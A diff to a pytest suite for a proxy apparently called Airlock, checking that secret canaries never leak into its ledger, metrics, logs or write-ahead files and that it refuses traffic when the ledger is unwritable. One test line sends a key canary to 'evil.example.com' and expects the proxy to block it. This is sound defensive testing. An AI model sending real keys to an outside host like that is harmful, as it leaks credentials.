@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import signal
 import socket
 import sqlite3
@@ -15,7 +16,7 @@ from pathlib import Path
 import pytest
 import requests
 
-from conftest import BINARY, TEST_ALLOWLIST, assert_absent, launch, launched
+from conftest import BINARY, TEST_ALLOWLIST, assert_absent, launch, launched, sweep_state_directory
 from test_proxy import proxied_session, read_response
 
 # Unique canaries, one per place a client can put something sensitive.
@@ -118,8 +119,8 @@ def test_requests_made_with_a_key_are_found_by_its_credential_id(airlock, standi
     for empty, problem in (("", "no API key on standard input"), ("one\ntwo\n", "more than one line")):
         refused = credential_id(empty)
         assert refused.returncode == 2 and problem in refused.stderr.decode()
-    for blob in (found.stdout + found.stderr, b"".join(ledger(airlock, *a).stdout for a in (("stats", "--by", "credential"), ("query",)))):
-        assert AUTH_CANARY.encode() not in blob and b"LedgerAuthCanary" not in blob
+    outputs = [found.stdout + found.stderr, b"".join(ledger(airlock, *a).stdout for a in (("stats", "--by", "credential"), ("query",)))]
+    assert_absent(outputs, AUTH_CANARY, "LedgerAuthCanary", XKEY_CANARY, "LedgerXKeyCanary", where="a ledger command's output")
 
 
 def test_blocked_requests_are_recorded(tmp_path, standin):
@@ -134,7 +135,9 @@ def test_blocked_requests_are_recorded(tmp_path, standin):
     assert row[0]["forwarded_bytes"] == 0
 
 
-def test_no_canary_anywhere(airlock, standin):
+def send_canaries(airlock) -> None:
+    """Requests carrying each canary where a client can put it: allowed, redacted, refused and denied. Returns once
+    the ledger holds a record of each."""
     session = proxied_session(airlock)
     body = chat(f"{PROSE_CANARY} and {BODY_CANARY}")
     session.post(f"https://api.openai.com/v1/chat/completions?key={QUERY_CANARY}", json=body,
@@ -159,7 +162,11 @@ def test_no_canary_anywhere(airlock, standin):
                  json={"contents": [{"parts": [{"text": "hello"}]}]}, timeout=20)
     with pytest.raises(requests.exceptions.ProxyError):
         session.get(f"https://evil.example.com/?key={QUERY_CANARY}", timeout=20)
-    wait_for(lambda: len(records(airlock)) >= 11)
+    assert wait_for(lambda: len(records(airlock)) >= 11), "the ledger did not record every request"
+
+
+def test_no_canary_anywhere(airlock, standin):
+    send_canaries(airlock)
     detectors = ledger(airlock, "stats", "--by", "detector").stdout
     assert b"code-code" in detectors
     metrics = requests.get(f"http://127.0.0.1:{airlock.admin_port}/metrics", timeout=5).content
@@ -168,12 +175,24 @@ def test_no_canary_anywhere(airlock, standin):
         ("query",), ("query", "--format", "json"), ("query", "--format", "csv"), ("tail", "-n", "50"),
         ("stats",), ("stats", "--by", "model"), ("stats", "--by", "detector"), ("export", "--format", "jsonl"),
         ("export", "--format", "csv"), ("checkpoint",), ("verify",))]
-    airlock.stop()
-    for blob in outputs + [airlock.output().encode()] + [p.read_bytes() for p in airlock.state_dir.iterdir() if p.is_file()]:
-        for canary in CANARIES:
-            assert canary.encode() not in blob, f"canary found: {canary[:12]}…"
+    assert_absent(outputs, *CANARIES, where="the metrics or a ledger command's output")
+    # While Airlock runs, the newest records sit in the write-ahead log.
+    assert "ledger.sqlite-wal" in sweep_state_directory(airlock.state_dir, *CANARIES, require_wal=True)
+    assert airlock.stop() == 0
+    assert_absent(airlock.output(), *CANARIES, where="the log")
+    sweep_state_directory(airlock.state_dir, *CANARIES, require_wal=False)
     # The model name that carried prose was not copied into the ledger.
     assert "[unsafe]" in {r["request_model"] for r in records(airlock)}
+
+
+def test_no_canary_in_what_a_kill_9_leaves_behind(airlock, standin):
+    """A crash leaves the write-ahead log as it was, never checkpointed into the database: it is searched too."""
+    send_canaries(airlock)
+    airlock.process.send_signal(signal.SIGKILL)
+    airlock.process.wait(timeout=20)
+    names = sweep_state_directory(airlock.state_dir, *CANARIES, require_wal=True)
+    assert "ledger.sqlite" in names and "ledger.sqlite-wal" in names
+    assert_absent(airlock.output(), *CANARIES, where="the log")
 
 
 @pytest.fixture
@@ -245,11 +264,17 @@ def test_fail_closed_when_the_ledger_cannot_be_written(airlock, standin):
     session = proxied_session(airlock)
     assert session.post("https://api.openai.com/v1/chat/completions", json=chat("warm up"), timeout=20).status_code == 200
     server.state.reset()
+    # The warm-up is recorded in full before the database is taken, so the only records left to write are the next
+    # request's.
+    assert wait_for(lambda: [r for r in records(airlock) if r["decision"] == "allowed" and r["upstream_status"] == 200])
+    failed_before = ledger_write_failures(airlock)
     db = sqlite3.connect(airlock.state_dir / "ledger.sqlite", isolation_level=None, timeout=1)
     db.execute("BEGIN EXCLUSIVE")  # another writer holds the database: Airlock cannot record
     try:
         response = session.post("https://api.openai.com/v1/chat/completions", json=chat("must not leave"), timeout=30)
-        time.sleep(2.5)  # longer than the busy timeout: the refusal's own record fails while the database is held
+        # The request's record failed (so it was refused); the refusal's own record is written in a batch of its
+        # own, and that one fails too while the database is held. Held until the metrics say so.
+        assert wait_for(lambda: ledger_write_failures(airlock) >= failed_before + 2, timeout=30), "the refusal's record was not tried"
     finally:
         db.execute("ROLLBACK")
         db.close()
@@ -261,6 +286,11 @@ def test_fail_closed_when_the_ledger_cannot_be_written(airlock, standin):
     refusals = wait_for(lambda: [r for r in records(airlock) if r.get("reason") == "ledger_unavailable"])
     assert len(refusals) == 1 and refusals[0]["decision"] == "error"
     assert ledger(airlock, "verify").returncode == 0
+
+
+def ledger_write_failures(airlock) -> int:
+    metrics = requests.get(f"http://127.0.0.1:{airlock.admin_port}/metrics", timeout=5).text
+    return int(float(re.search(r"^airlock_ledger_write_failures_total (\S+)$", metrics, re.M).group(1)))
 
 
 def test_kill_9_under_load_loses_no_forwarded_request(tmp_path, standin):
@@ -280,7 +310,8 @@ def test_kill_9_under_load_loses_no_forwarded_request(tmp_path, standin):
     workers = [threading.Thread(target=burst) for _ in range(4)]
     for w in workers:
         w.start()
-    time.sleep(1.5)
+    # Killed in the middle of the load, once a good number of requests went through.
+    assert wait_for(lambda: len(server.state.requests) >= 20, timeout=30), "the load did not get going"
     airlock.process.send_signal(signal.SIGKILL)
     airlock.process.wait()
     stop.set()
